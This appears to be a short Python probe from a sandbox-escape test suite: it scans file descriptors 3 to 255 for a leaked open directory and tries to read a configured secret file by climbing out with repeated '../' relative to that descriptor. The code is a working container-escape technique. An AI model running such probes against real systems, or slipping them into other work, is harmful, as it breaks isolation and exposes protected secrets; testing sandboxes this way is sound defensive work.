"""Climbs out by way of a directory descriptor that somebody forgot: openat(fd, "../../..")."""

import os

from probe import TARGET, attempt

for descriptor in range(3, 256):
    try:
        os.listdir(descriptor)
    except OSError:
        continue
    attempt(
        f"climb from descriptor {descriptor}",
        os.open,
        "../" * 30 + TARGET["secret"].lstrip("/"),
        os.O_RDONLY,
        dir_fd=descriptor,
    )
